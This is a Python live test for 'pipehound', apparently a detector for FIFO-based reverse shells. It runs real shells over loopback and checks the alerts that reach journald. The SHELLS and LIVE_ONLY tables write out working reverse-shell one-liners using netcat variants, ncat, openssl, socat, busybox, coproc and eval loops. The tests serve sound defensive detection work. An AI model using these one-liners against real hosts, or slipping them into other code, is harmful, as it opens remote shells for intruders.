#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""The whole chain for real: kernel, auditd, pipehound as its plugin, journald, and reverse shells over loopback.

usage: live_test.py PIPEHOUND

Each shell is opened by an unprivileged user and used by its peer; then the alert is read back with journalctl. Ends
with a line of counts; skips, saying so, where the machine cannot.
"""
import pathlib
import shutil
import signal
import socket
import ssl
import subprocess
import sys
import threading
import time

import loaded_rules
import own_eyes
import private_host
from private_host import HOME, WORK, run_as_user

PORT = 7460
LEVELS = ['informational', 'low', 'medium', 'high', 'critical']

# name -> (program that must be there, end of its path, shell text)
SHELLS = {
    'nc.openbsd': ('nc.openbsd', 'nc.openbsd', 'mkfifo f; cat f | sh -i 2>&1 | nc.openbsd 127.0.0.1 $P >f'),
    'nc.traditional': ('nc.traditional', 'nc.traditional', 'mkfifo f; cat f | sh -i 2>&1 | nc.traditional 127.0.0.1 $P >f'),
    'ncat': ('ncat', 'ncat', 'mknod f p; ncat 127.0.0.1 $P <f | sh >f 2>&1'),
    'openssl': ('openssl', 'openssl', 'mkfifo f; sh -i <f 2>&1 | openssl s_client -quiet -connect 127.0.0.1:$P >f'),
    'socat': ('socat', 'socat', 'mkfifo f; sh <f 2>&1 | socat - TCP:127.0.0.1:$P >f'),
    'busybox': ('busybox', 'busybox', 'mkfifo f; cat f | busybox sh -i 2>&1 | busybox nc 127.0.0.1 $P >f'),
}
# What records alone leave open, and open descriptors tell: name -> (shell text, what the peer types)
LIVE_ONLY = {
    'eval of builtins': ('mkfifo f; while read -r c; do eval "$c"; done <f 2>&1 | nc.openbsd 127.0.0.1 $P >f', 'echo $((6*7))'),
    'coproc': ('mkfifo f; coproc nc.openbsd 127.0.0.1 $P; exec 6<&${COPROC[0]} 7>&${COPROC[1]}; cat <&6 >f & sh <f >&7 2>&1',
               'echo $((6*7))'),
    'a subshell a command': ('mkfifo f; cat f | while read -r c; do echo "$(sh -c "$c" 2>&1)"; done | nc.openbsd 127.0.0.1 $P >f',
                             'echo $((6*7))'),
}
INNOCENT = {
    'gzip through a FIFO': 'mkfifo f; gzip <f >out.gz & seq 1000 >f; wait',
    'port check beside a FIFO': 'mkfifo f; cat f >/dev/null & echo x >f; wait; nc.openbsd -z -w1 127.0.0.1 $P; sh -c "echo done"',
}


class Peer(threading.Thread):
    """Listens once, types a line into the shell that it gets, and keeps what it hears."""

    def __init__(self, port, line, tls=False):
        super().__init__(daemon=True)
        self.line, self.tls, self.heard, self.connected = line, tls, b'', None
        self.listener = socket.create_server(('127.0.0.1', port))
        self.listener.settimeout(10)
        self.done = threading.Event()

    def run(self):
        try:
            link, _ = self.listener.accept()
            self.connected = time.time()
            if self.tls:
                context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
                context.load_cert_chain(WORK / 'tls.pem')
                link = context.wrap_socket(link, server_side=True)
            link.settimeout(5)
            time.sleep(0.3)
            link.sendall(self.line.encode() + b'\n')
            while not self.answered():
                data = link.recv(4096)
                if not data:
                    break
                self.heard += data
            self.done.wait(6)
            link.close()
        except OSError:
            pass
        finally:
            self.listener.close()

    def answered(self):
        return b'uid=' in self.heard or b'42' in self.heard

    def await_answer(self):
        """Until the shell has answered, or nobody is there any more; then lets go of it."""
        private_host.wait_until(lambda: self.answered() or not self.is_alive(), 8, 'no answer')
        self.done.set()


class Tally:
    passed = failed = skipped = 0

    def note(self, name, wrong, extra=''):
        if wrong:
            self.failed += 1
            print(f'FAILED {name}: {wrong}', flush=True)
        else:
            self.passed += 1
            print(f'ok {name} {extra}', flush=True)


def make_certificate():
    subprocess.run(['openssl', 'req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-days', '2', '-subj', '/CN=peer',
                    '-keyout', 'k.pem', '-out', 'c.pem'], cwd=WORK, check=True, stderr=subprocess.DEVNULL)
    (WORK / 'tls.pem').write_text((WORK / 'k.pem').read_text() + (WORK / 'c.pem').read_text())


def fresh_home():
    private_host.end_user_processes()
    for path in HOME.iterdir():
        path.unlink() if not path.is_dir() else shutil.rmtree(path)


def worst(alerts):
    return max(alerts, key=lambda alert: LEVELS.index(alert['PIPEHOUND_LEVEL']), default=None)


def await_alert(journal, since, least, seconds=4):
    """The highest alert of at least that level since then, as soon as the journal has one."""
    def look():
        alert = worst(journal.alerts(since))
        return alert if alert and LEVELS.index(alert['PIPEHOUND_LEVEL']) >= LEVELS.index(least) else None
    try:
        return private_host.wait_until(look, seconds, '')
    except TimeoutError:
        return None


def open_shell(text, port, line, tls=False):
    fresh_home()
    peer = Peer(port, line, tls)
    peer.start()
    run_as_user(text, P=str(port))
    private_host.wait_until(lambda: peer.connected or not peer.is_alive(), 10, 'nobody connected')
    return peer


def delay(alert, peer):
    return int(alert['__REALTIME_TIMESTAMP']) / 1e6 - peer.connected


def faults(alert, program, port):
    wrong = []
    if alert['PIPEHOUND_FIFO'] != str(HOME / 'f'):
        wrong.append(f'FIFO {alert["PIPEHOUND_FIFO"]}')
    if not alert.get('PIPEHOUND_NETWORK_EXE', '').endswith(program):
        wrong.append(f'network program {alert.get("PIPEHOUND_NETWORK_EXE")}')
    if (alert.get('PIPEHOUND_REMOTE_ADDRESS'), alert.get('PIPEHOUND_REMOTE_PORT')) != ('127.0.0.1', str(port)):
        wrong.append(f'remote end {alert.get("PIPEHOUND_REMOTE_ADDRESS")}:{alert.get("PIPEHOUND_REMOTE_PORT")}')
    if not alert.get('PIPEHOUND_SHELL_EXE', '').endswith(('dash', 'bash', 'busybox')):
        wrong.append(f'shell {alert.get("PIPEHOUND_SHELL_EXE")}')
    if alert['PRIORITY'] not in ('2', '3'):
        wrong.append(f'priority {alert["PRIORITY"]}')
    return wrong


def try_shell(journal, tally, name, port):
    tool, program, text = SHELLS[name]
    if shutil.which(tool) is None:
        tally.skipped += 1
        return print(f'skipped: {tool} is not installed')
    since = time.time()
    peer = open_shell(text, port, 'id', tls=name == 'openssl')
    alert = await_alert(journal, since, 'high')
    peer.await_answer()
    if alert is None:
        return tally.note(name, 'no alert in the journal')
    wrong = faults(alert, program, port)
    if not peer.answered():
        wrong.append('the peer got no shell')
    if (took := delay(alert, peer)) > 1:
        wrong.append(f'{took:.3f} s after the connect')
    tally.note(name, '; '.join(wrong), f'{alert["PIPEHOUND_LEVEL"]}, delay {took:+.3f} s from connect to journal')


def try_live_only(journal, tally, name, port):
    text, line = LIVE_ONLY[name]
    since = time.time()
    peer = open_shell(text, port, line)
    alert = await_alert(journal, since, 'medium', 8)
    peer.await_answer()
    heard = '' if peer.answered() else 'the peer got no shell'
    tally.note(name, heard or ('' if alert else 'no alert'), alert and f'{alert["PIPEHOUND_LEVEL"]}: {alert["PIPEHOUND_REASON"]}')


def try_innocent(journal, tally, name, port):
    fresh_home()
    since = time.time()
    run_as_user(INNOCENT[name], P=str(port)).wait(10)
    time.sleep(1.5)
    alert = worst(journal.alerts(since))
    tally.note(name, f'alert: {alert["MESSAGE"]}' if alert else '')


def try_journal_away(journal, tally, port):
    if journal.foreign:
        tally.skipped += 1
        return print('skipped: journald is not ours to stop')
    journal.stop()
    since = time.time()
    peer = open_shell(SHELLS['nc.openbsd'][2], port, 'id')
    try:
        private_host.wait_until(lambda: private_host.SPOOL.exists() and private_host.SPOOL.stat().st_size > 0, 4, '')
    except TimeoutError:
        tally.note('journal away', 'nothing was spooled')
    journal.start()
    alert = await_alert(journal, since, 'high', 20)
    peer.done.set()
    tally.note('journal away and back', '' if alert else 'the alert did not arrive')


def main():
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(143))
    tally = Tally()
    try:
        with private_host.private_host(pathlib.Path(sys.argv[1]), loaded_rules.AT_START) as journal:
            make_certificate()
            port = PORT
            for group, attempt in ((SHELLS, try_shell), (LIVE_ONLY, try_live_only), (INNOCENT, try_innocent)):
                for name in group:
                    port += 1
                    attempt(journal, tally, name, port)
            for case in loaded_rules.CASES:
                tally.note(case.__name__.replace('_', ' '), case(journal))
            for case in own_eyes.CASES:
                tally.note(case.__name__.replace('_', ' '), case(journal))
            try_journal_away(journal, tally, port + 1)
    except private_host.Unable as reason:
        tally.skipped += 1
        print(f'skipped: {reason}')
    print(f'{tally.passed} passed, {tally.failed} failed, {tally.skipped} skipped')
    return 1 if tally.failed else 0


if __name__ == '__main__':
    sys.exit(main())
